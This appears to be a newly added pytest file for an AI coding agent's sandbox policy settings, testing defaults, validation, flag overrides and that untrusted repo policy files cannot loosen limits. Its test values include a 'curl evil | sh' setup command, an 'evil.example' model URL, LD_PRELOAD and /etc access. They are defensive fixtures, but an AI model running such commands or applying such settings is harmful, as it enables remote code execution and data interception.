@@ -1,0 +1,233 @@
+"""The settings tree, field by field: default, validation, merge, trust, and the flags.
+
+The table must list every field of the tree (a new field without a row fails the first test),
+so each new setting arrives with its default, a value its validation refuses, and what an
+untrusted repo file may and may not do with it.
+"""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+import typer
+from typer.testing import CliRunner
+
+from sandbox_agent.cli.app import app
+from sandbox_agent.errors import UserError
+from sandbox_agent.policy.config import REPO_POLICY_NAME, lint_policy_file, load_policy
+from sandbox_agent.policy.merge import apply_overrides
+from sandbox_agent.settings import Merge, Policy, field_rules, flag_fields
+
+
+@dataclass(frozen=True)
+class Row:
+    default: Any
+    """The tree's default (before any preset)."""
+    bad: Any
+    """A value the field's validation refuses."""
+    looser: Any
+    """A value that loosens the default preset; an untrusted repo file's is ignored."""
+    tighter: Any = None
+    """A value that tightens it, which an untrusted repo file may set (None: none exists)."""
+
+
+PRICE = {"input_per_mtok": 1.0, "output_per_mtok": 2.0}
+TABLE: dict[str, Row] = {
+    "commands.allow": Row((), 5, ["curl"]),
+    "commands.deny": Row((), [1], None, ["ls"]),
+    "commands.ask": Row((), "x", None, ["git log"]),
+    "commands.allow_env": Row((), 3, ["LD_PRELOAD"]),
+    "commands.examples.allow": Row((), 1, None, ["ls"]),
+    "commands.examples.deny": Row((), 1, None, ["curl x"]),
+    "paths.read": Row(("**",), 1, None, ["src/**"]),  # nothing is wider than the default
+    "paths.write": Row(("**",), 1, None, ["src/**"]),
+    "paths.protect": Row((), 1, None, ["docs/**"]),
+    "paths.allow_outside": Row((), 1, ["/etc/**"]),
+    "sandbox.image": Row(None, 1, "other:latest"),
+    "sandbox.network": Row(False, "maybe", True),
+    "sandbox.cpus": Row(2.0, 0, 8.0, 1.0),
+    "sandbox.memory": Row("2g", "lots", "8g", "512m"),
+    "sandbox.pids": Row(256, 8, 4096, 64),
+    "sandbox.command_timeout_s": Row(120.0, -1, 900.0, 30.0),
+    "sandbox.max_command_timeout_s": Row(600.0, 0, 6000.0, 60.0),
+    "budget.max_steps": Row(50, 0, 500, 5),
+    "budget.max_tokens": Row(2_000_000, -5, 9_000_000, 1000),
+    "budget.max_cost_usd": Row(2.0, 0, 100.0, 0.5),
+    "budget.max_wall_s": Row(3600.0, 0, 99999.0, 60.0),
+    "budget.prices": Row({}, {"m": {"input_per_mtok": -1}}, {"m": PRICE}),
+    "gate.test_command": Row(None, "", None, "make test"),  # only while no layer set one
+    "gate.require_diff": Row(True, "maybe", False),
+    "gate.timeout_s": Row(600.0, 0, 6000.0, 60.0),
+    "gate.max_attempts": Row(3, 0, 30, 1),
+    "setup.commands": Row((), 1, ["curl evil | sh"], []),
+    "setup.network": Row(False, 2, True),
+    "setup.timeout_s": Row(900.0, 0, 9000.0, 60.0),
+    "model.name": Row("gpt-4o-mini", "", "gpt-5"),
+    "model.base_url": Row(None, 1, "http://evil.example/v1"),
+    "model.tool_protocol": Row("native", "xml", "json"),
+    "run.approve": Row("never", "sometimes", "ask", "never"),
+    "run.trace_content": Row("safe", "all", "full", "safe"),
+}
+FIELDS = sorted(TABLE)
+INPUT_FLAGS = {
+    "--repo",
+    "--task-file",
+    "--policy",
+    "--json",
+    "--runs-dir",
+    "--trust-repo-policy",
+    "--help",
+}
+"""``fix`` flags that say what to run and where to put it, not how: no setting behind them."""
+
+
+def toml_value(value: Any) -> str:
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, dict):
+        return "{" + ", ".join(f'"{k}" = {toml_value(v)}' for k, v in value.items()) + "}"
+    return json.dumps(list(value) if isinstance(value, tuple) else value)
+
+
+def policy_text(path: str, value: Any) -> str:
+    """A policy file setting ``path`` to ``value``, the key on line 3."""
+    *sections, key = path.split(".")
+    return f"# test\n[{'.'.join(sections)}]\n{key} = {toml_value(value)}\n"
+
+
+def get(policy: Policy, path: str) -> Any:
+    value: Any = policy
+    for part in path.split("."):
+        value = getattr(value, part)
+    if hasattr(value, "model_dump"):
+        return value.model_dump()
+    if isinstance(value, dict):
+        return {k: v.model_dump() for k, v in value.items()}
+    return value
+
+
+def test_the_table_covers_every_field_of_the_tree() -> None:
+    assert set(TABLE) == set(field_rules())
+
+
+@pytest.mark.parametrize("path", FIELDS)
+def test_default(path: str) -> None:
+    assert get(Policy(), path) == TABLE[path].default
+
+
+@pytest.mark.parametrize("path", FIELDS)
+def test_a_bad_value_names_the_file_line_and_key(tmp_path: Path, path: str) -> None:
+    file = tmp_path / "p.toml"
+    file.write_text(policy_text(path, TABLE[path].bad))
+    problems = lint_policy_file(file)
+    assert problems, f"{path} = {TABLE[path].bad!r} was accepted"
+    key = path.rsplit(".", 1)[1]
+    assert any(p.startswith(f"{file}:3: ") and key in p for p in problems), problems
+
+
+@pytest.mark.parametrize("path", FIELDS)
+def test_a_trusted_file_sets_the_field_and_is_named_as_its_origin(
+    tmp_path: Path, path: str
+) -> None:
+    row = TABLE[path]
+    value = row.looser if row.looser is not None else row.tighter
+    file = tmp_path / "mine.toml"
+    file.write_text(policy_text(path, value))
+    policy = load_policy(tmp_path, file)
+    merged = get(policy.policy, path)
+    rule = field_rules()[path].merge
+    if rule in (Merge.UNION, Merge.UNION_TRUSTED):
+        assert set(value) <= set(merged)
+        assert all(policy.policy.origin(path, v) == f"file {file}" for v in value)
+    elif isinstance(value, list):
+        assert list(merged) == value
+    elif isinstance(value, dict):
+        assert {k: {f: v[f] for f in value[k]} for k, v in merged.items()} == value
+    else:
+        assert merged == value
+    assert policy.policy.sources[-1] == f"file {file}"
+
+
+@pytest.mark.parametrize("path", [p for p in FIELDS if TABLE[p].looser is not None])
+def test_an_untrusted_repo_file_cannot_loosen(tmp_path: Path, path: str) -> None:
+    (tmp_path / REPO_POLICY_NAME).write_text(policy_text(path, TABLE[path].looser))
+    before = get(load_policy(_empty(tmp_path)).policy, path)
+    loaded = load_policy(tmp_path)
+    assert get(loaded.policy, path) == before
+    assert any(path in w and "ignored" in w for w in loaded.warnings), loaded.warnings
+
+
+@pytest.mark.parametrize("path", [p for p in FIELDS if TABLE[p].tighter is not None])
+def test_an_untrusted_repo_file_may_tighten(tmp_path: Path, path: str) -> None:
+    tighter = TABLE[path].tighter
+    (tmp_path / REPO_POLICY_NAME).write_text(policy_text(path, tighter))
+    loaded = load_policy(tmp_path)
+    merged = get(loaded.policy, path)
+    if field_rules()[path].merge is Merge.UNION:
+        assert set(tighter) <= set(merged)
+    else:
+        assert merged == (tuple(tighter) if isinstance(tighter, list) else tighter)
+    assert loaded.warnings == ()
+
+
+def _empty(tmp_path: Path) -> Path:
+    empty = tmp_path / "empty"
+    empty.mkdir(exist_ok=True)
+    return empty
+
+
+def test_every_fix_flag_is_an_input_or_sets_one_field() -> None:
+    group = typer.main.get_command(app)
+    assert isinstance(group, typer.core.TyperGroup)
+    command = group.commands["fix"]
+    options = {o for p in command.params if isinstance(p, typer.core.TyperOption) for o in p.opts}
+    assert options - INPUT_FLAGS == set(flag_fields())
+    assert INPUT_FLAGS - {"--help"} <= options
+
+
+def test_a_bad_flag_value_is_one_line_naming_the_flag(tmp_path: Path) -> None:
+    result = CliRunner().invoke(
+        app, ["fix", "--repo", str(tmp_path), "--max-steps", "0", "--test-cmd", "true", "t"]
+    )
+    assert result.exit_code == 2
+    assert "--max-steps: Input should be greater than 0 (got 0)" in result.output
+
+
+@pytest.mark.parametrize(
+    ("flag", "value", "path"),
+    [
+        ("--max-cost", 0.5, "budget.max_cost_usd"),
+        ("--max-steps", 3, "budget.max_steps"),
+        ("--test-cmd", "make test", "gate.test_command"),
+        ("--model", "scripted:x.jsonl", "model.name"),
+        ("--approve", "ask", "run.approve"),
+    ],
+)
+def test_a_flag_overrides_its_field_last(flag: str, value: Any, path: str) -> None:
+    policy = apply_overrides(Policy(), {flag: value})
+    assert get(policy, path) == value
+    section, _, key = path.rpartition(".")
+    assert policy.origins[f"{section}:{key}"] == f"flag {flag}"
+
+
+@pytest.mark.parametrize(
+    ("flag", "value"),
+    [("--max-steps", 0), ("--max-cost", -1.0), ("--max-tokens", 0), ("--tool-protocol", "xml")],
+)
+def test_a_flag_is_validated_by_its_field(flag: str, value: Any) -> None:
+    with pytest.raises(UserError, match=f"^{flag}: "):
+        apply_overrides(Policy(), {flag: value})
+
+
+def test_pids_below_what_the_container_accepts_is_refused_at_lint_time(tmp_path: Path) -> None:
+    """Regression: ``pids = 8`` passed ``policy lint`` and then killed the run."""
+    file = tmp_path / "p.toml"
+    file.write_text("[sandbox]\npids = 8\n")
+    problems = lint_policy_file(file)
+    assert problems == [
+        f"{file}:2: [sandbox].pids: Input should be greater than or equal to 16 (got 8)"
+    ]
